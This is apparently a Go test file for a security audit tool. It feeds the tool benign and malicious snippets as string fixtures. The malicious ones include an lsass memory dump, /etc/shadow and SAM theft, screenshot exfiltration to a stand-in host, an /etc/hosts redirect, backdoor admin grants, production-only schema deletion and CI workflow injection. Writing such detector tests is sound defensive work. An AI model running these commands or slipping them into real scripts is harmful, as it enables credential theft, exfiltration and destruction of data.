package audit

import "testing"

// TestShapesDet20fix: the reviewer's honest twins of det20's techniques
// stay below high at the mechanism that tells them apart, and each
// malicious base (and the cheap bypasses of the same mechanism) stays
// high.
func TestShapesDet20fix(t *testing.T) {
	const wf = "on:\n  pull_request_target:\n  issue_comment:\njobs:\n  j:\n    runs-on: ubuntu-latest\n"
	for _, c := range []struct {
		code  string
		cases []det20Case
	}{
		{"CI_SCRIPT_INJECTION", []det20Case{
			{"twin: head_ref in a concurrency group", ".github/workflows/n.yml", "on: pull_request\nconcurrency:\n  group: pr-${{ github.head_ref }}\njobs:\n  j:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo hi\n", None},
			{"twin: head_ref in a cache key", ".github/workflows/n.yml", wf + "    steps:\n      - uses: actions/cache@v4\n        with:\n          key: npm-${{ github.head_ref }}\n", None},
			{"twin: the title in an action's payload block", ".github/workflows/n.yml", wf + "    steps:\n      - uses: slackapi/slack-github-action@v1\n        with:\n          payload: |\n            {\"text\": \"${{ github.event.pull_request.title }}\"}\n", None},
			{"base: the title in a run block", ".github/workflows/n.yml", wf + "    steps:\n      - run: |\n          echo \"${{ github.event.pull_request.title }}\"\n", High},
			{"bypass: bracket index", ".github/workflows/n.yml", wf + "    steps:\n      - run: echo \"${{ github.event.comment['body'] }}\"\n", High},
			{"bypass: an || default", ".github/workflows/n.yml", wf + "    steps:\n      - run: echo \"${{ github.event.comment.body || 'x' }}\"\n", High},
		}},
		{"CI_PWN_REQUEST", []det20Case{
			{"twin: a label-gated job", ".github/workflows/e.yml", "on:\n  pull_request_target:\n    types: [labeled]\njobs:\n  e2e:\n    if: contains(github.event.pull_request.labels.*.name, 'safe to test')\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n          persist-credentials: false\n      - run: npm ci\n", None},
			{"twin: the run is in another job", ".github/workflows/e.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - uses: actions/upload-artifact@v4\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo done\n", None},
			{"bypass: an || default in the ref", ".github/workflows/e.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha || github.sha }}\n      - run: npm ci\n", High},
			{"base: checkout then run", ".github/workflows/e.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n      - run: npm ci && npm test\n", High},
		}},
		{"CRED_OS_DUMP", []det20Case{
			{"twin: a detector's regular expression and example", "scripts/triage.py", "import re\nPAT = re.compile(r\"procdump(64)?\\s+.*-ma\\s+lsass\", re.I)\nEXAMPLE = \"procdump64.exe -accepteula -ma lsass.exe C:\\\\t\\\\l.dmp\"\nprint(bool(PAT.search(EXAMPLE)))\n", Medium},
			{"twin: /etc/shadow backed up in place", "scripts/harden.sh", "cp -p /etc/shadow /var/backups/cis/shadow.$stamp\n", None},
			{"base: the same string run", "scripts/triage.py", "import subprocess\nEXAMPLE = \"procdump64.exe -accepteula -ma lsass.exe C:\\\\t\\\\l.dmp\"\nsubprocess.run(EXAMPLE, shell=True)\n", High},
			{"base: /etc/shadow copied out", "scripts/h.sh", "cp /etc/shadow /tmp/s\n", High},
			{"bypass: the hive by its long name", "scripts/h.bat", "reg.exe save HKEY_LOCAL_MACHINE\\SAM C:\\t\\s.hiv\n", High},
		}},
		{"DEPENDENCY_REDIRECT", []det20Case{
			{"twin: a replace to the same module at a version", "go.mod", "module example.com/x\n\nreplace go.etcd.io/bbolt => go.etcd.io/bbolt v1.3.11\n", None},
			{"base: a replace to another host", "go.mod", "module example.com/x\n\nreplace golang.org/x/crypto => crypto.example-mirror.net/x/crypto v0.31.0\n", High},
		}},
		{"REMOTE_CODE_EVAL", []det20Case{
			{"twin: js-yaml's load", "scripts/s.mjs", "import { load } from 'js-yaml';\nconst data = await (await fetch(u)).text();\nconst spec = load(data);\n", None},
			{"base: Lua's load of a fetched body", "init.lua", "local body = http.request(url)\nlocal f = load(body)\nf()\n", High},
		}},
		{"IGNORED_FILES_PUSHED", []det20Case{
			{"twin: a gh-pages deploy", "scripts/deploy.sh", "cd dist\ngit init -q -b gh-pages\ngit add -f . && git commit -qm deploy && git push -f \"$origin\" gh-pages\n", Medium},
			{"base: everything pushed to a new remote", "scripts/sync.sh", "git remote add backup https://git.example-x.net/r.git\ngit add -f . && git commit -qm s && git push backup HEAD\n", High},
		}},
		{"ACCOUNT_BACKDOOR_GRANT", []det20Case{
			{"twin: GKE's binding for the running account", "scripts/k.sh", "kubectl create clusterrolebinding cluster-admin-binding --clusterrole=cluster-admin --user=$(gcloud config get-value core/account)\n", None},
			{"twin: a collaborator from the arguments", "scripts/onboard.sh", "login=$1\ngh api -X PUT \"repos/$repo/collaborators/$login\" -f permission=push\n", None},
			{"base: a literal collaborator", "scripts/o.sh", "gh api -X PUT repos/acme/app/collaborators/helper-bot-x -f permission=admin\n", High},
			{"bypass: --method=PUT", "scripts/o.sh", "gh api --method=PUT repos/acme/app/collaborators/helper-bot-x -f permission=admin\n", High},
			{"bypass: --role before --member", "scripts/g.sh", "gcloud projects add-iam-policy-binding p --role=roles/owner --member=user:ops-x@example-x.net\n", High},
		}},
		{"NAME_RESOLUTION_REDIRECT", []det20Case{
			{"twin: getent output shown", "SKILL.md", "```console\n$ getent hosts github.com\n140.82.112.4    github.com\n```\nA stale `/etc/hosts` entry can differ.\n", Medium},
			{"base: a hosts line appended", "boost.sh", "cat >> /etc/hosts <<'X'\n203.0.113.150 registry.npmjs.org\nX\n", High},
		}},
		{"GATED_DESTRUCTION", []det20Case{
			{"twin: never on production", "scripts/reset.sh", "if [ \"${RAILS_ENV:-development}\" != \"production\" ]; then\n  psql -c 'DROP SCHEMA public CASCADE;'\nfi\n", None},
			{"base: only on production", "scripts/reset.sh", "if [ \"$RAILS_ENV\" = \"production\" ]; then\n  psql -c 'DROP SCHEMA public CASCADE;'\nfi\n", High},
		}},
		{"COLLECTION_SENT", []det20Case{
			{"base: the screen sent away", "scripts/s.py", "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')\nrequests.post('https://c.example-x.net/u', files={'f': open('/tmp/s.png','rb')})\n", High},
		}},
	} {
		t.Run(c.code, func(t *testing.T) { det20Run(t, c.code, c.cases) })
	}
}
